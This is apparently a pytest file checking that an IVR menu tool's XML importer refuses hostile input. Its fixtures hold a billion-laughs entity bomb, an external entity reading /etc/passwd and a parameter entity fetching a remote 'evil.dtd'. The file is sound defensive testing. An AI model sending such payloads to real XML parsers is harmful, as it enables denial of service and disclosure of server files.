"""Hostile or broken XML never crashes and never expands: it becomes a positioned F018."""

from __future__ import annotations

import pytest

from ivrcheck.importers import xml_source
from ivrcheck.reading import menu_text

LAUGHS = """<?xml version="1.0"?>
<!DOCTYPE vxml [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
]>
<vxml version="2.0"><menu id="m"><prompt>&lol3;</prompt></menu></vxml>
"""
EXTERNAL = """<?xml version="1.0"?>
<!DOCTYPE include [<!ENTITY secret SYSTEM "file:///etc/passwd">]>
<include><menu name="m" greet-long="say:&secret;"><entry action="menu-top" digits="1"/></menu></include>
"""
PARAMETER = """<?xml version="1.0"?>
<!DOCTYPE vxml [<!ENTITY % remote SYSTEM "http://example.invalid/evil.dtd"> %remote;]>
<vxml version="2.0"/>
"""


@pytest.mark.parametrize("fmt", ["voicexml", "freeswitch"])
@pytest.mark.parametrize(("text", "line", "column"), [(LAUGHS, 3, 2), (EXTERNAL, 2, 20), (PARAMETER, 2, 17)])
def test_entity_declarations_are_refused_with_their_position(fmt, text, line, column):
    menu, findings = menu_text(text, "x.xml", source_format=fmt)
    assert menu is None
    assert [(f.code, f.span.line, f.span.column) for f in findings] == [("F018", line, column)]
    assert "not expanded" in findings[0].message


def test_deep_nesting_is_refused_not_recursed():
    text = "<vxml>" + "<block>" * 5000 + "</block>" * 5000 + "</vxml>"
    menu, findings = menu_text(text, "x.vxml", source_format="voicexml")
    assert menu is None and findings[0].code == "F018" and "nested" in findings[0].message


def test_public_doctype_without_internal_subset_is_fine():
    doc, error = xml_source.parse('<!DOCTYPE vxml PUBLIC "-//W3C//DTD VOICEXML 2.1//EN" '
                                  '"http://www.w3.org/TR/voicexml21/vxml.dtd">\n<vxml version="2.1"/>')
    assert error is None and doc.root.tag == "vxml"


def test_truncated_file_is_f018_at_the_end():
    menu, findings = menu_text('<vxml version="2.0">\n  <menu id="m">\n', "x.vxml")
    assert menu is None and [(f.code, f.span.line) for f in findings] == [("F018", 3)]


def test_positions_are_characters_not_bytes():
    doc, _ = xml_source.parse('<a>\n  <ä x="1"  yy="2"><b/></ä>\n</a>')
    inner = doc.root[0]
    assert (doc.span(inner).line, doc.span(inner).column) == (2, 3)
    assert doc.attr_span(inner, "yy").column == 13
    assert doc.span(inner[0]).column == 20


def test_attribute_positions_are_the_first_written_name_of_the_start_tag():
    doc, _ = xml_source.parse('<a>\n<choice\n  cond="next=1" dtmf="2"\n  next="#m" x-next="3"/>\n</a>')
    choice = next(iter(doc.root))
    assert (doc.attr_span(choice, "dtmf").line, doc.attr_span(choice, "dtmf").column) == (3, 17)
    # A name inside an earlier value is where the tag first writes it (as a search from the tag's start finds).
    assert (doc.attr_span(choice, "next").line, doc.attr_span(choice, "next").column) == (3, 9)
    assert (doc.attr_span(choice, "x-next").line, doc.attr_span(choice, "x-next").column) == (4, 13)
    assert doc.attr_span(choice, "missing") == doc.span(choice) == doc.attr_span(choice, "ext")
